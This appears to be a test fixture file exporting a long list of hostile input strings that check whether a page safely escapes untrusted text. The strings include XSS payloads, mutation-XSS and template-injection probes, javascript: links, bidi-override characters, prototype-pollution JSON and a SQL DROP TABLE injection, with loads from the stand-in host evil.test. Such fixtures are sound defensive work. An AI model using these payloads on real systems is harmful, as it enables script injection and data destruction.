const EVIL = "https://evil.test";

/** Signs that text ran as code: a dialog, a request to another host, or a console error. */
const RUN = "alert('ran')";

/** Single-line strings that try to run code, load something, or change how a page looks. */
export const HOSTILE = [
  // Elements that run code or load something.
  `<script>${RUN}</script>`,
  `<ScRiPt src="${EVIL}/x.js"></sCrIpT>`,
  `<script/src=${EVIL}/y.js>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${EVIL}/pixel.gif">`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=9 y=9>click</text></a></svg>`,
  `<math><maction actiontype="statusline#${EVIL}" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="${EVIL}/z.swf">`,
  `<a href="javascript:${RUN}" autofocus>click</a>`,
  `<a href="jAvAsCrIpT&colon;${RUN}">click</a>`,
  `<form action="${EVIL}"><button formaction="javascript:${RUN}">Approve</button></form>`,
  `<link rel=stylesheet href="${EVIL}/a.css"><style>@import "${EVIL}/b.css";*{background:url(${EVIL}/c)}</style>`,
  `<div style="background:url(${EVIL}/d);width:expression(${RUN})">x</div>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<base href="${EVIL}/">`,
  // Closing tags of every element that can contain text.
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style></script><img src=x onerror=${RUN}>`,
  `--></noscript></template><img src=x onerror=${RUN}><!--`,
  `]]><img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `' autofocus onfocus='${RUN}`,
  `\`\${${RUN}}\``,
  `</p></div></body></html><script>${RUN}</script>`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  // Markup that becomes an element only when it's parsed and serialized again.
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<<img src=x onerror=${RUN}>//`,
  `<img src=x onerror\u3000=${RUN}>`,
  // Entities, templates, and Markdown.
  `&lt;script&gt;${RUN}&lt;/script&gt; &amp;lt; &#60;img src=x onerror=${RUN}&#62; &nbsp;&copy;`,
  `{{ inputs }} {{7*7}} {{ constructor.constructor('${RUN}')() }} \${${RUN}} <%= ${RUN} %> #{${RUN}}`,
  `[click](javascript:${RUN}) ![x](${EVIL}/m.png) <javascript:${RUN}> **bold** \`code\``,
  `data:text/html,<script>${RUN}</script> javascript:${RUN}`,
  // Invisible characters, and characters that reverse the text direction.
  `safe \u202egnp.exe\u202c \u2066isolated\u2069 zero\u200bwidth \ufeffmark`,
  `control \u0001\u0008\u001b[31m red \u007f`,
  `שלום <script>${RUN}</script> مرحبا`,
  `%3Cscript%3E${RUN}%3C/script%3E %00 \\0`,
  `{"__proto__":{"ran":true},"constructor":{"prototype":{"ran":true}}}`,
  `'; DROP TABLE "Review"; --`,
].join("\n");

/** A single-line workflow name. */
export const HOSTILE_NAME = `</title></h1><script>${RUN}</script><img src=x onerror=${RUN}>"' {{ input }} &lt;b&gt; [x](javascript:${RUN})`;
